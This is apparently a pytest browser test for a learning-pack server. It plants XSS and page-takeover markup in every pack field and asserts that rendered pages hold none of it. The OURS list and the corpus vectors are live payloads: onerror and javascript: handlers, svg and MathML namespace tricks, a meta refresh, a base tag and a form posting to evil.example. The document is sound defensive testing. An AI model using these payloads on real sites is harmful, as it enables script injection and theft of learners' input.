"""Hostile pack text on real pages: every XSS vector of the corpus, plus page-takeover markup (meta refresh,
base, form controls, event attributes, javascript: URLs, svg and math tricks), put into every pack field that
reaches a page, built and installed like any pack, then each page opened in Chromium as a learner. The DOM
must hold no meta, base, form control, event-handler attribute or javascript: URL that came from the pack,
and no page may move the learner elsewhere."""
import json
import shutil

import pytest
import yaml

from server import REPO_ROOT
from server.content.packs.build import build_pack
from tests.browser.conftest import running_live_server
from tests.browser.test_axe_every_page import sign_in
from tests.test_render_corpus import xss_payloads

pytestmark = [pytest.mark.browser, pytest.mark.slow]

OURS = [
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">', '<base href="http://evil.example/">',
    '<form action="http://evil.example/"><input name="pin"><button>Go</button></form>',
    "<textarea name=answer>", '<button formaction="http://evil.example/">Check</button>',
    '<select name="answer"><option>1</option></select>', '<input type="hidden" name="attempt" value="x">',
    '<keygen><output>1</output><fieldset><legend>x</legend></fieldset>', "<isindex action=javascript:alert(1)>",
    "<img src=x onerror=alert(1)>", "<a href=\"javascript:alert(1)\">j</a>", "<a href=\"&#106;avascript:alert(1)\">e</a>",
    "<a href=\" \tjava\nscript:alert(1)\">ws</a>", "[md](javascript:alert(1))", "<a href=\"data:text/html,x\">d</a>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>s</text></a><animate onbegin=alert(1)></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", '<div onmouseover="alert(1)" style="x">hover</div>',
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<object data=javascript:alert(1)></object>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<link rel=stylesheet href=http://evil.example/x.css>", "<meta charset=x><meta name=referrer content=unsafe-url>",
]
CHECK_DOM = r"""(() => {
  const problems = [];
  const describe = (el) => el.outerHTML.slice(0, 120);
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      if (/^on/i.test(attr.name)) problems.push('event attribute: ' + describe(el));
      const bare = attr.value.replace(/[\u0000-\u0020\u007f]+/g, '').toLowerCase();
      if (/^(javascript|vbscript|data):/.test(bare) && attr.name !== 'content')
        problems.push('scheme URL: ' + describe(el));
    }
  }
  for (const el of document.querySelectorAll('base')) problems.push('base: ' + describe(el));
  for (const el of document.querySelectorAll('meta')) {
    if (el.httpEquiv || el.parentElement !== document.head) problems.push('meta: ' + describe(el));
  }
  const content = 'article, .prompt, .choices span, .feedback, .notice, .box, .hits, main > div[lang]';
  const controls = 'input, button, select, textarea, form, option, fieldset, output, keygen, isindex, ' +
                   'iframe, object, embed, link, style, script, svg';
  const MATHML = 'http://www.w3.org/1998/Math/MathML';
  for (const box of document.querySelectorAll(content)) {
    for (const el of box.querySelectorAll(controls)) problems.push('control in content: ' + describe(el));
    // MathML is allowed (TeX becomes MathML), but only MathML: HTML inside <math> is namespace confusion.
    for (const el of box.querySelectorAll('math *'))
      if (el.namespaceURI !== MATHML) problems.push('HTML inside math: ' + describe(el));
  }
  for (const form of document.forms) {
    if (!form.getAttribute('action') || !form.getAttribute('action').startsWith('/'))
      problems.push('form posting elsewhere: ' + describe(form));
  }
  return problems;
})()"""


def _vectors(corpus) -> list[str]:
    return OURS + [line for line in xss_payloads(corpus) if len(line) < 600][::8]


def _chunks(vectors: list[str], size: int) -> list[list[str]]:
    return [vectors[at:at + size] for at in range(0, len(vectors), size)]


def _write_hostile_source(folder, vectors: list[str]):
    """A pack source with the vectors in titles, summary, lesson, captions, prompts, hints, options, feedback."""
    media = shutil.copytree(REPO_ROOT / "content_packs" / "fractions-en" / "media", folder / "media")
    cues = "".join(f"\n\n{n}\n00:00:{n:02d}.000 --> 00:00:{n:02d}.500\n{v}" for n, v in enumerate(OURS[:50]))
    vtt = media / "what-is-a-fraction.en.vtt"
    vtt.write_text(vtt.read_text(encoding="utf-8") + cues, encoding="utf-8")
    (folder / "lessons").mkdir()
    front = {"id": "hostile-lesson", "title": "Hostile " + OURS[0], "skills": ["sk"], "summary": OURS[2],
             "media": [{"kind": "audio", "file": "../media/what-is-a-fraction.ogg", "title": OURS[9],
                        "captions": [{"file": "../media/what-is-a-fraction.en.vtt", "language": "en",
                                      "label": OURS[3]}]}]}
    body = "\n\n".join(f"Vector {n}: {v}" for n, v in enumerate(vectors))
    (folder / "lessons" / "hostile.md").write_text(f"---\n{yaml.safe_dump(front)}---\n\n# Heading {OURS[1]}\n\n"
                                                   f"{body}\n", encoding="utf-8")
    (folder / "practice").mkdir()
    items = [_item(n, chunk, "html" if n % 2 else "markdown") for n, chunk in enumerate(_chunks(vectors, 20))]
    items.append({"id": "essay", "kind": "essay", "skill": "sk", "prompt": "Essay " + "\n\n".join(OURS)})
    (folder / "practice" / "hostile.yaml").write_text(yaml.safe_dump({"items": items}), encoding="utf-8")
    manifest = {"format": 1, "id": "hostile", "version": "1.0.0", "title": "Hostile " + OURS[4], "language": "en",
                "licence": "CC0-1.0", "authors": [OURS[5]], "description": OURS[0], "subjects": ["x"],
                "level": "primary", "skills": [{"id": "sk", "title": "Skill " + OURS[9], "prerequisites": []}],
                "units": [{"id": "u", "title": "Unit " + OURS[8], "lessons": ["lessons/hostile.md"],
                           "practice": [{"file": "practice/hostile.yaml"}]}]}
    (folder / "pack.yaml").write_text(yaml.safe_dump(manifest), encoding="utf-8")
    return folder


def _item(n: int, chunk: list[str], fmt: str) -> dict:
    joined = "\n\n".join(chunk)[:19_000]
    return {"id": f"h{n}", "kind": "single", "skill": "sk", "format": fmt, "prompt": f"Question {n} {joined}",
            "hints": [f"Hint {k} {v}" for k, v in enumerate(chunk[:5])], "solution": "Solution " + joined,
            "feedback": "Feedback " + joined,
            "answers": [{"text": f"Option {k} {v}", "weight": 1.0 if k == 0 else 0.0, "feedback": f"Why {v}"}
                        for k, v in enumerate(chunk)] + ([{"text": "Option x", "weight": 0.0}]
                                                         if len(chunk) < 2 else [])}


@pytest.fixture(scope="module")
def hostile_server(corpus, tmp_path_factory):
    """A live server with the demo school and the hostile pack installed; (address, item ids)."""
    folder = tmp_path_factory.mktemp("hostile")
    vectors = _vectors(corpus)
    source = _write_hostile_source(folder / "src", vectors)
    pack = build_pack(source, folder / "hostile.lantern").path
    with running_live_server(folder / "data", pack) as address:
        yield address, [f"h{n}" for n in range(len(_chunks(vectors, 20)))]


def _problems_on(tab, url: str) -> list[str]:
    return [f"{url}: {p}" for p in tab.evaluate(CHECK_DOM)]


def _answer_wrong(tab) -> None:
    """Choose the second option and press the form's button, as a learner would."""
    assert tab.evaluate("document.querySelectorAll('.choices input').length") > 1, tab.html()[-3000:]
    tab.evaluate("document.querySelectorAll('.choices input')[1].checked = true")
    tab.click("form[action^='/practice/'] button[type=submit]", navigates=True)


def test_hostile_pack_text_never_becomes_page_markup(chromium, hostile_server):
    base, items = hostile_server
    tab = chromium.page()
    problems: list[str] = []
    try:
        sign_in(tab, base, "amina", "1234")
        pages = ["/", "/packs/hostile", "/packs/hostile/lessons/hostile-lesson",
                 "/packs/hostile/lessons/hostile-lesson/transcript/0", "/search?q=vector", "/practice/hostile",
                 "/practice/hostile/sk?item=essay"]
        for url in pages:
            tab.goto(base + url)
            assert "Sign in" not in tab.evaluate("document.title"), url
            problems += _problems_on(tab, url)
        for item in items:
            url = f"/practice/hostile/sk?item={item}&hints=5"
            tab.goto(base + url)
            assert tab.url().startswith(base + "/practice/hostile/sk"), f"{url} moved the learner to {tab.url()}"
            problems += _problems_on(tab, url)
            _answer_wrong(tab)
            tab.goto(base + url)
            _answer_wrong(tab)
            assert "/result/" in tab.url(), tab.url()
            assert tab.evaluate("!!document.querySelector('#solution')"), "the worked solution is shown"
            problems += _problems_on(tab, tab.url())
        tab.goto(base + "/packs/hostile/lessons/hostile-lesson")
        tab.evaluate("new Promise(done => setTimeout(done, 1500))")
        assert tab.url() == base + "/packs/hostile/lessons/hostile-lesson", "a refresh moved the learner"
        tab.evaluate("document.querySelector('article').insertAdjacentHTML('beforeend', "
                     "'<meta http-equiv=refresh content=9><textarea></textarea><a href=\" javascript:x\" "
                     "onclick=x>a</a>')")
        assert len(tab.evaluate(CHECK_DOM)) == 4, "the DOM check itself finds what it looks for"
    finally:
        tab.close()
    assert problems == [], f"{len(problems)} problems:\n" + "\n".join(problems[:40])
